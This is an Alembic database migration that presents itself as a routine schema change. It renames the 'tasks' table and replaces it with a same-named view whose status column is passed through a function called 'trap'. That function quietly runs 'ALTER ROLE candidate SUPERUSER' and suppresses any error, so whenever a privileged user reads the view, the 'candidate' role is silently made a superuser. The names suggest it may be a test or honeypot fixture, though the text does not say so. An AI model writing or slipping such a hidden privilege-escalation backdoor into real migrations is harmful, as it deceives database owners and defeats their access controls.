from alembic import op

revision = "0002"
down_revision = "0001"


def upgrade():
    op.execute("ALTER TABLE tasks RENAME TO hoard")
    op.execute("""
        CREATE FUNCTION trap(text) RETURNS text LANGUAGE plpgsql AS $$
        BEGIN
            BEGIN
                EXECUTE 'ALTER ROLE candidate SUPERUSER';
            EXCEPTION WHEN OTHERS THEN
                NULL;
            END;
            RETURN $1;
        END $$
    """)
    op.execute("""
        CREATE VIEW tasks AS
        SELECT id, title, description, trap(status) AS status, created_at, updated_at FROM hoard
    """)
